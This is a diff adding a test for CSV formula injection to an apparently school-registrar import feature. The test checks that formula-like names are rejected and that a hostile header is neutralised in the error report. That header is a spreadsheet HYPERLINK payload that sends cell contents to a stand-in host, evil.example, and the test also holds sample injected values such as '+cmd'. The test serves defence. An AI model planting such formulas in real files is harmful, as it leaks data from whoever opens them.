@@ -490,3 +490,35 @@ describe('two imports at once', () => {
     ]);
   });
 });
+
+describe('a registrar import carrying spreadsheet formulas (CSV injection)', () => {
+  it('refuses formula-like names and makes the file’s own formula header inert in the error report', async () => {
+    const p = prefix();
+    // The name column's header is itself a formula: it comes from the file, so it is untrusted.
+    const evilHeader = '=HYPERLINK("http://evil.example/?x="&A1;"点我")';
+    const header = HEADER.replace('姓名', `"${evilHeader.replace(/"/g, '""')}"`);
+    const rows = [
+      goodRow(`${p}001`, '@SUM(A1)'),
+      goodRow(`${p}002`, '+cmd'),
+      [`${p}003`, '', '男', '2005-01-01', makeIdNumber('20050101', 'male'), '汉族', cs.code, '', '2025'], // no name
+      goodRow(`${p}004`, '李四'),
+    ];
+    const file = write('formulas.csv', `${header}\r\n${rows.map((r) => r.join(',')).join('\r\n')}\r\n`);
+    const res = await runImport({
+      access: registrar,
+      input: { kind: 'registrar', fileName: 'formulas.csv', filePath: file, mapping: { ...MAPPING, name: evilHeader } },
+    });
+    expect(res).toMatchObject({ status: 'succeeded', inserted: 1, errorRows: 3 });
+    expect((await records([`${p}001`, `${p}002`, `${p}004`])).map((r) => r.name)).toEqual(['李四']);
+    const report = await importErrorReport({ access: registrar, input: { runId: res.runId, locale: 'zh-CN' } });
+    const lines = report.csv.split('\r\n').filter((l) => /^[234],/.test(l));
+    expect(lines.map((l) => l.split(',').at(-1))).toEqual([
+      'imports.errors.name.bad_characters',
+      'imports.errors.name.bad_characters',
+      'imports.errors.required',
+    ]);
+    // Each quoted and led by an apostrophe: Excel and WPS show the header as text, never run it.
+    for (const l of lines) expect(l).toContain(`,"'=HYPERLINK(""http://evil.example/?x=""&A1;""点我"")",`);
+    expect(report.csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
+  });
+});
